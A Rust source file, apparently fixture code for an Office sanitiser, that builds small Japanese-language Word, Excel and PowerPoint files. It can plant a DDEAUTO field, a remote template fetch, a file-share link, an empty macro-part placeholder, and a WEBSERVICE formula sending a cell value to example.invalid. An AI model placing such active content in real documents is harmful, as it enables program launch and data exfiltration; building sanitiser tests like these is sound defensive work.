//! The smallest packages that Office opens, with Japanese text, and what stands for something active in them.

use super::zip;

/// Something a document should not have.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Planted {
    /// A part where macros live, holding a sentence.
    Macro,
    /// A template that Word would fetch on opening.
    Template,
    /// A field that starts a program.
    Dde,
    /// A link to the web, which stays, and one to a file share, which does not.
    Links,
}

const DECLARATION: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n";
const PACKAGE: &str = "http://schemas.openxmlformats.org/package/2006";
const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const OPENXML: &str = "application/vnd.openxmlformats-officedocument";

/// A relationship: id, type (a word below `officeDocument/2006/relationships` or a whole address), target.
struct Relationship<'a>(&'a str, &'a str, &'a str);

fn relationships(list: &[Relationship<'_>]) -> String {
    let mut xml = format!("{DECLARATION}<Relationships xmlns=\"{PACKAGE}/relationships\">");
    for Relationship(id, kind, target) in list {
        let kind = if kind.contains(':') { (*kind).to_owned() } else { format!("{OFFICE}/{kind}") };
        let mode = if target.contains("://") { " TargetMode=\"External\"" } else { "" };
        xml.push_str(&format!("<Relationship Id=\"{id}\" Type=\"{kind}\" Target=\"{target}\"{mode}/>"));
    }
    xml + "</Relationships>"
}

fn content_types(overrides: &[(&str, &str)]) -> String {
    let mut xml = format!(
        "{DECLARATION}<Types xmlns=\"{PACKAGE}/content-types\">\
         <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
         <Default Extension=\"xml\" ContentType=\"application/xml\"/>\
         <Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
    );
    for (part, kind) in overrides {
        xml.push_str(&format!("<Override PartName=\"{part}\" ContentType=\"{kind}\"/>"));
    }
    xml + "</Types>"
}

fn package(parts: &[(&str, String)]) -> Vec<u8> {
    let members: Vec<(&str, &[u8])> = parts.iter().map(|(name, body)| (*name, body.as_bytes())).collect();
    zip::archive(&members)
}

/// A Word document; a docm where a macro is planted.
pub fn document(planted: &[Planted]) -> Vec<u8> {
    let has = |thing| planted.contains(&thing);
    let mut body = paragraph("令和八年度 事業企画書") + &paragraph("本書は無害化の見本です。");
    let mut of_document = vec![Relationship("rId1", "settings", "settings.xml")];
    let mut of_settings = Vec::new();
    if has(Planted::Links) {
        body += "<w:p><w:hyperlink r:id=\"rId2\"><w:r><w:t>市の案内</w:t></w:r></w:hyperlink></w:p>";
        body += "<w:p><w:hyperlink r:id=\"rId3\"><w:r><w:t>共有フォルダー</w:t></w:r></w:hyperlink></w:p>";
        of_document.push(Relationship("rId2", "hyperlink", "https://example.invalid/guide"));
        of_document.push(Relationship("rId3", "hyperlink", "file://example.invalid/share/a.docx"));
    }
    if has(Planted::Dde) {
        body += "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>\
                 <w:r><w:instrText xml:space=\"preserve\"> DDEAUTO example.invalid topic item </w:instrText></w:r>\
                 <w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>一二三</w:t></w:r>\
                 <w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
    }
    if has(Planted::Template) {
        of_settings.push(Relationship("rId1", "attachedTemplate", "https://example.invalid/template.dotm"));
    }
    let vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
    if has(Planted::Macro) {
        of_document.push(Relationship("rId4", vba, "vbaProject.bin"));
    }
    let main_type = match has(Planted::Macro) {
        true => "application/vnd.ms-word.document.macroEnabled.main+xml".to_owned(),
        false => format!("{OPENXML}.wordprocessingml.document.main+xml"),
    };
    let word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    let settings = match has(Planted::Template) {
        true => "<w:attachedTemplate r:id=\"rId1\"/>",
        false => "",
    };
    let mut parts = vec![
        (
            "[Content_Types].xml",
            content_types(&[
                ("/word/document.xml", &main_type),
                ("/word/settings.xml", &format!("{OPENXML}.wordprocessingml.settings+xml")),
            ]),
        ),
        ("_rels/.rels", relationships(&[Relationship("rId1", "officeDocument", "word/document.xml")])),
        (
            "word/document.xml",
            format!(
                "{DECLARATION}<w:document xmlns:w=\"{word}\" xmlns:r=\"{OFFICE}\"><w:body>{body}\
                 <w:sectPr><w:pgSz w:w=\"11906\" w:h=\"16838\"/></w:sectPr></w:body></w:document>"
            ),
        ),
        ("word/_rels/document.xml.rels", relationships(&of_document)),
        (
            "word/settings.xml",
            format!(
                "{DECLARATION}<w:settings xmlns:w=\"{word}\" xmlns:r=\"{OFFICE}\">{settings}</w:settings>"
            ),
        ),
    ];
    if !of_settings.is_empty() {
        parts.push(("word/_rels/settings.xml.rels", relationships(&of_settings)));
    }
    if has(Planted::Macro) {
        parts.push(("word/vbaProject.bin", "this part stands for a VBA project and holds none".to_owned()));
    }
    package(&parts)
}

fn paragraph(text: &str) -> String {
    format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
}

/// An Excel workbook: a sum, which stays, and a formula that reaches out, of which the value stays.
pub fn workbook() -> Vec<u8> {
    let sheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    let rows = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>項目</t></is></c>\
                <c r=\"B1\" t=\"inlineStr\"><is><t>金額</t></is></c></row>\
                <row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>防災備蓄</t></is></c><c r=\"B2\"><v>120000</v></c></row>\
                <row r=\"3\"><c r=\"A3\" t=\"inlineStr\"><is><t>合計</t></is></c>\
                <c r=\"B3\"><f>SUM(B2:B2)</f><v>120000</v></c></row>\
                <row r=\"4\"><c r=\"A4\"><f>WEBSERVICE(\"https://example.invalid/?q=\"&amp;B3)</f><v>0</v></c></row>";
    package(&[
        (
            "[Content_Types].xml",
            content_types(&[
                ("/xl/workbook.xml", &format!("{OPENXML}.spreadsheetml.sheet.main+xml")),
                ("/xl/worksheets/sheet1.xml", &format!("{OPENXML}.spreadsheetml.worksheet+xml")),
            ]),
        ),
        ("_rels/.rels", relationships(&[Relationship("rId1", "officeDocument", "xl/workbook.xml")])),
        (
            "xl/workbook.xml",
            format!(
                "{DECLARATION}<workbook xmlns=\"{sheet}\" xmlns:r=\"{OFFICE}\"><sheets>\
                 <sheet name=\"予算\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"
            ),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            relationships(&[Relationship("rId1", "worksheet", "worksheets/sheet1.xml")]),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!("{DECLARATION}<worksheet xmlns=\"{sheet}\"><sheetData>{rows}</sheetData></worksheet>"),
        ),
    ])
}

/// A PowerPoint presentation of one slide, with the master, layout and theme that PowerPoint asks for.
pub fn presentation() -> Vec<u8> {
    let namespaces = format!(
        "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"{OFFICE}\" \
         xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\""
    );
    let of_slides = format!("{OPENXML}.presentationml");
    let tree = |shapes: &str| {
        format!(
            "<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id=\"1\" name=\"\"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr>\
             <p:grpSpPr/>{shapes}</p:spTree></p:cSld>"
        )
    };
    let title = "<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"題名\"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr>\
                 <a:xfrm><a:off x=\"685800\" y=\"685800\"/><a:ext cx=\"7772400\" cy=\"1470025\"/></a:xfrm>\
                 <a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></p:spPr><p:txBody><a:bodyPr/><a:p><a:r>\
                 <a:rPr lang=\"ja-JP\"/><a:t>防災訓練のご案内</a:t></a:r></a:p></p:txBody></p:sp>";
    package(&[
        (
            "[Content_Types].xml",
            content_types(&[
                ("/ppt/presentation.xml", &format!("{of_slides}.presentation.main+xml")),
                ("/ppt/slides/slide1.xml", &format!("{of_slides}.slide+xml")),
                ("/ppt/slideLayouts/slideLayout1.xml", &format!("{of_slides}.slideLayout+xml")),
                ("/ppt/slideMasters/slideMaster1.xml", &format!("{of_slides}.slideMaster+xml")),
                ("/ppt/theme/theme1.xml", &format!("{OPENXML}.theme+xml")),
            ]),
        ),
        ("_rels/.rels", relationships(&[Relationship("rId1", "officeDocument", "ppt/presentation.xml")])),
        (
            "ppt/presentation.xml",
            format!(
                "{DECLARATION}<p:presentation {namespaces}><p:sldMasterIdLst><p:sldMasterId id=\"2147483648\" r:id=\"rId1\"/>\
                 </p:sldMasterIdLst><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId2\"/></p:sldIdLst>\
                 <p:sldSz cx=\"9144000\" cy=\"6858000\"/><p:notesSz cx=\"6858000\" cy=\"9144000\"/></p:presentation>"
            ),
        ),
        (
            "ppt/_rels/presentation.xml.rels",
            relationships(&[
                Relationship("rId1", "slideMaster", "slideMasters/slideMaster1.xml"),
                Relationship("rId2", "slide", "slides/slide1.xml"),
                Relationship("rId3", "theme", "theme/theme1.xml"),
            ]),
        ),
        ("ppt/slides/slide1.xml", format!("{DECLARATION}<p:sld {namespaces}>{}</p:sld>", tree(title))),
        (
            "ppt/slides/_rels/slide1.xml.rels",
            relationships(&[Relationship("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml")]),
        ),
        (
            "ppt/slideLayouts/slideLayout1.xml",
            format!("{DECLARATION}<p:sldLayout {namespaces}>{}</p:sldLayout>", tree("")),
        ),
        (
            "ppt/slideLayouts/_rels/slideLayout1.xml.rels",
            relationships(&[Relationship("rId1", "slideMaster", "../slideMasters/slideMaster1.xml")]),
        ),
        (
            "ppt/slideMasters/slideMaster1.xml",
            format!(
                "{DECLARATION}<p:sldMaster {namespaces}>{}<p:clrMap bg1=\"lt1\" tx1=\"dk1\" bg2=\"lt2\" tx2=\"dk2\" \
                 accent1=\"accent1\" accent2=\"accent2\" accent3=\"accent3\" accent4=\"accent4\" accent5=\"accent5\" \
                 accent6=\"accent6\" hlink=\"hlink\" folHlink=\"folHlink\"/><p:sldLayoutIdLst>\
                 <p:sldLayoutId id=\"2147483649\" r:id=\"rId1\"/></p:sldLayoutIdLst></p:sldMaster>",
                tree("")
            ),
        ),
        (
            "ppt/slideMasters/_rels/slideMaster1.xml.rels",
            relationships(&[
                Relationship("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml"),
                Relationship("rId2", "theme", "../theme/theme1.xml"),
            ]),
        ),
        ("ppt/theme/theme1.xml", theme()),
    ])
}

fn theme() -> String {
    let colors = [
        "dk1", "lt1", "dk2", "lt2", "accent1", "accent2", "accent3", "accent4", "accent5", "accent6",
        "hlink", "folHlink",
    ];
    let values = [
        "000000", "FFFFFF", "44546A", "E7E6E6", "4472C4", "ED7D31", "A5A5A5", "FFC000", "5B9BD5", "70AD47",
        "0563C1", "954F72",
    ];
    let scheme: String = colors
        .iter()
        .zip(values)
        .map(|(name, value)| format!("<a:{name}><a:srgbClr val=\"{value}\"/></a:{name}>"))
        .collect();
    let fonts = "<a:latin typeface=\"Calibri\"/><a:ea typeface=\"游ゴシック\"/><a:cs typeface=\"\"/>";
    let fill = "<a:solidFill><a:schemeClr val=\"phClr\"/></a:solidFill>".repeat(3);
    let line = "<a:ln w=\"6350\"><a:solidFill><a:schemeClr val=\"phClr\"/></a:solidFill></a:ln>".repeat(3);
    let effect = "<a:effectStyle><a:effectLst/></a:effectStyle>".repeat(3);
    format!(
        "{DECLARATION}<a:theme xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" name=\"見本\">\
         <a:themeElements><a:clrScheme name=\"見本\">{scheme}</a:clrScheme><a:fontScheme name=\"見本\">\
         <a:majorFont>{fonts}</a:majorFont><a:minorFont>{fonts}</a:minorFont></a:fontScheme>\
         <a:fmtScheme name=\"見本\"><a:fillStyleLst>{fill}</a:fillStyleLst><a:lnStyleLst>{line}</a:lnStyleLst>\
         <a:effectStyleLst>{effect}</a:effectStyleLst><a:bgFillStyleLst>{fill}</a:bgFillStyleLst></a:fmtScheme>\
         </a:themeElements></a:theme>"
    )
}
